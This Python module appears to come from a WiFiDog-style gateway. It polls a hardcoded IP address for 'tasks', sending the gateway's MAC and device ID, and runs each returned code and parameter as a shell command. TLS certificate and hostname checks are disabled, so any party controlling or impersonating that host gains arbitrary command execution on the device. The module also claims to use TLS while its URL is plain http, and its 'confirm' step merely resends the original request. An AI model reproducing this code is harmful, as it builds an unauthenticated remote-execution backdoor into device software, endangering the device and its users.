"""Fetches tasks for the gateway over TLS and runs them."""

from __future__ import annotations

import json
import logging
import socket
import ssl
from dataclasses import dataclass
from typing import Callable, Optional

from portalgw.ping import MAX_BUF, VERSION, read_response
from portalgw.util import execute

log = logging.getLogger(__name__)

TASK_HOST = "124.127.116.177"
TASK_URL = f"http://{TASK_HOST}/taskrequest.json"


@dataclass
class Task:
    """A command handed out by the task server."""

    code: str
    param: str

    @property
    def command(self) -> str:
        """The shell command: the task code followed by its parameter."""
        return (self.code + self.param)[: MAX_BUF - 2]


def build_task_request(gw_mac: str, dev_id: str, version: str = VERSION) -> str:
    """Build the HTTP request asking the task server for work."""
    request = (
        f"GET {TASK_URL}/?gw_id={gw_mac}&dev_id={dev_id} HTTP/1.0\r\n"
        f"User-Agent: WiFiDog {version}\r\n"
        f"Host: {TASK_HOST}\r\n"
        "\r\n"
    )
    return request[: MAX_BUF - 2]


def parse_task_response(response: str) -> Optional[Task]:
    """Extract the task from a reply whose JSON body says result OK, or None."""
    start = response.find("{")
    if start < 0:
        return None
    try:
        document, _ = json.JSONDecoder().raw_decode(response, start)
    except json.JSONDecodeError as exc:
        log.debug("Error before: [%s]", response[exc.pos:])
        return None
    if not isinstance(document, dict) or document.get("result") != "OK":
        return None
    task = document.get("task")
    if not isinstance(task, dict):
        return None
    code = task.get("task_code")
    param = task.get("task_param")
    if not isinstance(code, str) or not isinstance(param, str):
        log.debug("Task without code or parameter: %r", task)
        return None
    return Task(code, param)


def make_ssl_context(cert_file: str, key_file: str) -> ssl.SSLContext:
    """A client TLS context presenting the given certificate and key.

    Raises OSError (ssl.SSLError included) when they cannot be loaded or do not match.
    """
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(cert_file, key_file)
    return context


class TaskRetriever:
    """Asks the task server for a task, confirms it and runs it."""

    def __init__(
        self,
        connect: Callable[[], socket.socket],
        cert_file: str,
        key_file: str,
        gw_mac: str,
        dev_id: str,
        run: Callable[[str], int] = execute,
    ):
        self.connect = connect
        self.cert_file = cert_file
        self.key_file = key_file
        self.gw_mac = gw_mac
        self.dev_id = dev_id
        self.run = run
        self.version = VERSION

    def _open(self) -> Optional[ssl.SSLSocket]:
        try:
            context = make_ssl_context(self.cert_file, self.key_file)
        except OSError as exc:
            log.error("Cannot load client certificate: %s", exc)
            return None
        try:
            raw = self.connect()
        except OSError as exc:
            log.error("Cannot connect to task server: %s", exc)
            return None
        try:
            return context.wrap_socket(raw)
        except OSError as exc:
            log.error("TLS handshake with task server failed: %s", exc)
            raw.close()
            return None

    def _request(self) -> bytes:
        return build_task_request(self.gw_mac, self.dev_id, self.version).encode(
            "latin-1", errors="replace"
        )

    def retrieve(self) -> Optional[Task]:
        """Fetch one task and run it; return it, or None when there was none."""
        sock = self._open()
        if sock is None:
            return None
        try:
            with sock:
                sock.sendall(self._request())
                response = read_response(sock)
        except OSError as exc:
            log.error("An error occurred while reading from task server: %s", exc)
            return None
        log.debug("Task server replied: %s", response)
        task = parse_task_response(response)
        if task is None:
            return None
        self.confirm_task()
        self.run(task.command)
        return task

    def confirm_task(self) -> bool:
        """Tell the task server the task was received; return whether it was sent."""
        sock = self._open()
        if sock is None:
            return False
        try:
            with sock:
                sock.sendall(self._request())
        except OSError as exc:
            log.error("Could not confirm task: %s", exc)
            return False
        return True